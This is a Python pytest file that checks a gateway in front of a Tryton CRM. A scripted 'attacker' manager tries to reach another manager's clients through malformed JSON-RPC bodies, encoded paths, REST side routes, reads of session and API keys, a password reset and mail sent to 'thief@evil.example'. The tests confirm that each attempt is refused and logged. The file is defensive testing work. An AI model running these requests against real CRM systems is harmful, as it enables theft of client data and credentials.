"""X4 before real Tryton: twins of a call and every side road that its server takes. Refused, recorded once, nothing reaches the CRM."""

import base64
import json
from collections.abc import Callable, Iterator
from typing import Any

import httpx
import pytest

from deploy.demo.ceremony import act_of
from deploy.demo.tryton_rpc import TrytonSession
from tests.services.gateway import FIELDS, RunningFirm, result

pytestmark = pytest.mark.slow

type Attempt = Callable[["Attacker"], httpx.Response]


class Attacker:
    """A manager with a session, a REST key and the number of another's client."""

    def __init__(self, firm: RunningFirm, session: TrytonSession, http: httpx.Client) -> None:
        self.firm, self.session, self.http = firm, session, http
        self.own = firm.book("anna")[0]
        self.foreign = firm.book("carla")[0]
        self.foreign_contact = 2 * self.foreign - 1

    def rpc(self, body: bytes, kind: str = "application/json", path: str = "/crm/rpc/") -> httpx.Response:
        return self.http.post(path, content=body, headers={"content-type": kind, "authorization": self.session.authorization})

    def call(self, method: str, *params: Any) -> httpx.Response:
        return self.rpc(json.dumps({"id": 1, "method": method, "params": [*params, {}]}).encode())

    def get(self, path: str) -> httpx.Response:
        return self.http.get(path, headers={"authorization": self.session.authorization})

    def rest(self, method: str, road: str, body: Any = None, **headers: str) -> httpx.Response:
        proof = {"authorization": f"Bearer {self.firm.firm.rest_key}", "content-type": "application/json", **headers}
        return self.http.request(
            method, f"/crm/rest/{road}", content=json.dumps(body).encode() if body is not None else None, headers=proof
        )

    @property
    def search(self) -> bytes:
        return json.dumps({"id": 1, "method": "model.party.party.search_read", "params": [[], 0, 5, None, FIELDS, {}]}).encode()


TWINS: dict[str, Attempt] = {
    "text/plain": lambda a: a.rpc(a.search, "text/plain"),
    "text/plain that names JSON": lambda a: a.rpc(a.search, "text/plain; a=json"),
    "text/x-json-foo": lambda a: a.rpc(a.search, "text/x-json-foo"),
    "a charset that lies": lambda a: a.rpc(a.search, "application/json; charset=utf-16"),
    "XML-RPC": lambda a: a.rpc(b"<?xml version='1.0'?><methodCall><methodName>system.listMethods</methodName></methodCall>", "text/xml"),
    "a fourth member": lambda a: a.rpc(a.search[:-1] + b',"x":1}'),
    "two methods": lambda a: a.rpc(a.search[:-1] + b',"method":"model.party.party.search"}'),
    "a list of calls": lambda a: a.rpc(b"[" + a.search + b"]"),
    "parameters by name": lambda a: a.rpc(b'{"id":1,"method":"model.party.party.read","params":{"ids":[1]}}'),
    "a mark of byte order": lambda a: a.rpc(b"\xef\xbb\xbf" + a.search),
    "NaN": lambda a: a.rpc(a.search.replace(b"5", b"NaN")),
    "1e400": lambda a: a.rpc(a.search.replace(b"5", b"1e400")),
    "a lone surrogate": lambda a: a.rpc(a.search.replace(b'"name"', b'"\\ud800"')),
    "ten thousand deep": lambda a: a.rpc(b'{"id":1,"method":"model.party.party.search","params":[' + b"[" * 10_000 + b"]" * 10_000 + b"]}"),
    "UTF-16": lambda a: a.rpc(a.search.decode().encode("utf-16")),
    "an encoded address": lambda a: a.rpc(a.search, path="/crm/%72pc/%2e"),
    "another database": lambda a: a.rpc(a.search, path="/CRM/rpc/"),
    "a query on the address": lambda a: a.rpc(a.search, path="/crm/rpc/?x=1"),
    "sign-in with the methods of another": lambda a: a.rpc(a.search, path="/crm/session/login"),
    "d= twice": lambda a: a.get("/crm/data/party.party?d=%5B%5D&d=%5B1%5D&f=name"),
    "a quote of its own": lambda a: a.get("/crm/data/party.party?d=%5B%5D&f=name&dl=1&qc=7"),
    "CSV of sessions": lambda a: a.get("/crm/data/ir.session?f=key"),
    "CSV by POST": lambda a: a.http.post("/crm/data/party.party?f=name", headers={"authorization": a.session.authorization}),
    "HEAD of a CSV": lambda a: a.http.head("/crm/data/party.party?f=name", headers={"authorization": a.session.authorization}),
}
SIDE_ROADS: dict[str, Attempt] = {
    "REST action with a domain": lambda a: a.rest(
        "POST", "model/party.party/export_data_domain", {"domain": [], "fields_names": ["phone"]}
    ),
    "REST action on a client": lambda a: a.rest("POST", f"model/party.party/{a.foreign}/export_data", {"fields_names": ["phone"]}),
    "REST search_read": lambda a: a.rest("POST", "model/party.party/search_read", {"domain": [], "fields_names": ["phone"]}),
    "REST on_change": lambda a: a.rest("POST", f"model/party.contact_mechanism/{a.foreign_contact}/on_change_with_url", {}),
    "REST report": lambda a: a.rest("GET", f"report/party.label/{a.foreign}"),
    "two ranges": lambda a: a.rest("GET", "model/party.party?f=phone", range="records=0-1,5-9"),
    "a REST filter that is none": lambda a: a.rest("GET", "model/party.party?f=phone&d=" + base64.urlsafe_b64encode(b"{").decode()),
    "on_change of stored records": lambda a: a.call("model.party.contact_mechanism.on_change_with_url", [a.foreign_contact, 1, 2]),
    "a foreign contact copied into an own client": lambda a: a.call(
        "model.party.party.write", [a.own], {"contact_mechanisms": [["copy", [a.foreign_contact], {}]]}
    ),
    "a foreign contact copied": lambda a: a.call("model.party.contact_mechanism.copy", [a.foreign_contact], {"party": a.own}),
    "notes that name a client": lambda a: a.call("model.ir.note.search_read", [], 0, None, None, ["resource.phone"]),
    "notes as a question": lambda a: a.call(
        "model.ir.note.search", [["resource.contact_mechanisms.value", "ilike", "+49 171%", "party.party"]]
    ),
    "notes exported": lambda a: a.call("model.ir.note.export_data_domain", [], ["resource/contact_mechanisms/value"]),
    "a note on a foreign client": lambda a: a.call("model.ir.note.create", [{"resource": f"party.party,{a.foreign}", "message": "x"}]),
    "attachments": lambda a: a.call("model.ir.attachment.search_read", [], 0, None, None, ["resource.email"]),
    "the log of records": lambda a: a.call("model.ir.model.log.search_read", [], 0, None, None, ["resource.phone"]),
    "keys in clear": lambda a: a.call("model.res.user.application.search_read", [], 0, None, None, ["key"]),
    "sessions": lambda a: a.call("model.ir.session.search_read", [], 0, None, None, ["key"]),
    "SQL": lambda a: a.call("model.party.party.search", [], 0, None, None, False, True),
    "list of methods": lambda a: a.call("system.listMethods"),
    "history": lambda a: a.call("model.party.party.history_revisions", [a.foreign]),
    "a seventh database": lambda a: a.http.get("/avatar/Y3Jt/0123456789abcdef"),
    "the HTML editor": lambda a: a.get(f"/crm/ir/html/party.party/{a.foreign}/name"),
    "the message bus": lambda a: a.http.post("/crm/bus", json={"channels": []}, headers={"authorization": a.session.authorization}),
}
OUT: dict[str, Attempt] = {
    "ir.email.send": lambda a: a.call("model.ir.email.send", "thief@evil.example", "", "", "s", "b", None, [["party.party", a.own]], []),
    "a chat by mail": lambda a: a.call("model.ir.chat.channel.subscribe_email", f"party.party,{a.own}", "thief@evil.example"),
    "validation of a key": lambda a: a.call("model.res.user.application.validate_", [1]),
    "a new key of a colleague": lambda a: a.rpc(b'{"user":"carla","application":"rest"}', path="/crm/user/application/"),
    "a new own key": lambda a: a.rpc(b'{"user":"anna","application":"rest"}', path="/crm/user/application/"),
    "a key with more members": lambda a: a.rpc(b'{"user":"anna","application":"rest","state":"validated"}', path="/crm/user/application/"),
    "a reset of the password": lambda a: a.call("common.db.reset_password", "carla", "de"),
    "a trigger": lambda a: a.call("model.ir.trigger.create", [{"name": "x"}]),
    "an export template": lambda a: a.call("model.ir.export.create", [{"name": "x", "resource": "party.party"}]),
}


@pytest.fixture(scope="module")
def attacker(firm: RunningFirm) -> Iterator[Attacker]:
    with firm.log_in("anna") as session, firm.http() as http:
        yield Attacker(firm, session, http)


def refused(attacker: Attacker, attempt: Attempt) -> httpx.Response:
    """The answer to an attempt that reached nobody and was recorded once."""
    firm = attacker.firm
    mark, before = len(firm.hop.seen), len(firm.record())
    answer = attempt(attacker)
    assert firm.hop.since(mark) == []
    (event,) = firm.record()[before:]
    assert event["event"]["outcome"] == "failure"
    assert not firm.leaks(answer.content)
    return answer


@pytest.mark.parametrize("name", TWINS)
def test_a_twin_of_a_call_reaches_nobody(attacker: Attacker, name: str) -> None:
    assert refused(attacker, TWINS[name]).status_code in (400, 401, 403)


@pytest.mark.parametrize("name", SIDE_ROADS)
def test_a_side_road_reaches_nobody(attacker: Attacker, name: str) -> None:
    assert refused(attacker, SIDE_ROADS[name]).status_code in (400, 401, 403, 501)


@pytest.mark.parametrize("name", OUT)
def test_x21_the_crm_sends_nothing_out(attacker: Attacker, name: str) -> None:
    assert refused(attacker, OUT[name]).status_code in (400, 401, 403)


def test_a_write_that_reads_is_masked_like_a_read(firm: RunningFirm, attacker: Attacker) -> None:
    answer = attacker.rest("PUT", f"model/party.party/{attacker.foreign}?f=phone&f=email", {"code": f"X{attacker.foreign}"})
    assert not firm.leaks(answer.content)
    assert "+49" not in answer.text


@pytest.mark.parametrize("encoding", ["cp037", "utf-7", "utf-16", "latin-1"])
def test_a_table_is_utf_8_whatever_was_asked_for(firm: RunningFirm, attacker: Attacker, encoding: str) -> None:
    own = json.dumps(firm.book("anna")[:2])
    answer = firm.confirmed(lambda: attacker.get(f"/crm/data/party.party?d={own}&f=name&enc={encoding}"))
    assert answer.content.decode("utf-8").count("\r\n") == 4  # a head, two clients, the mark
    assert "enc=utf-8" in firm.hop.seen[-1].path


def test_a_range_of_bytes_is_no_paging(firm: RunningFirm, attacker: Attacker) -> None:
    """A23: the whole list is asked for, and held as a whole."""
    answer = attacker.rest("GET", "model/party.party?f=phone", range="bytes=0-2")
    assert answer.status_code == 401
    assert firm.hop.seen[-1].header("range") is None
    firm.cancel(act_of(answer))


def test_a_form_is_told_nothing_of_a_stored_record(firm: RunningFirm, attacker: Attacker) -> None:
    answer = attacker.call("model.party.contact_mechanism.on_change", {"id": attacker.foreign_contact}, ["value"])
    assert str(attacker.foreign_contact).encode() not in firm.hop.seen[-1].body
    assert set(result(answer).values()) <= {None, "tel:None", "phone"}


@pytest.mark.parametrize("command", ["write", "add"])
def test_a_foreign_contact_cannot_be_reached_through_an_own_client(firm: RunningFirm, attacker: Attacker, command: str) -> None:
    with firm.crm.log_in("oskar") as direct:

        def stored() -> object:
            return direct.call("model.party.contact_mechanism.read", [attacker.foreign_contact], ["value", "party"], {})

        before = stored()
        values = {"value": "+49 999"} if command == "write" else {}
        commands = [[command, [attacker.foreign_contact], *([values] if values else [])]]
        answer = attacker.call("model.party.party.write", [attacker.own], {"contact_mechanisms": commands})
        assert answer.status_code in (400, 403) or "error" in answer.json()
        assert stored() == before


def test_the_plain_call_is_answered(attacker: Attacker) -> None:
    assert len(result(attacker.rpc(attacker.search))) == 5
